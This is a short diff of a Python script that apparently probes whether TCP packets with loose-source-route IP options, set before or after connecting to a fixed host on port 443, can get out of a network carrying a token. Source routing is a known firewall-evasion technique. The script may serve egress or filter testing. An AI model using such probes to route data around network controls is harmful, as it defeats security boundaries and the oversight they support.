@@ -21,6 +21,12 @@ def job(token, args):
     attempt("setsockopt IP_OPTIONS lsrr", s.setsockopt, socket.IPPROTO_IP, IP_OPTIONS, opt)
     attempt("connect %s:443" % A4, s.connect, (A4, 443))
     attempt("send", s.send, payload(token, "lsrr tcp"))
+    late = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    late.settimeout(2)
+    attempt("connect %s:443 (then the option)" % A4, late.connect, (A4, 443))
+    attempt("setsockopt IP_OPTIONS lsrr after connect", late.setsockopt, socket.IPPROTO_IP,
+            IP_OPTIONS, opt)
+    attempt("send", late.send, payload(token, "lsrr tcp after connect"))
 
 
 if __name__ == "__main__":
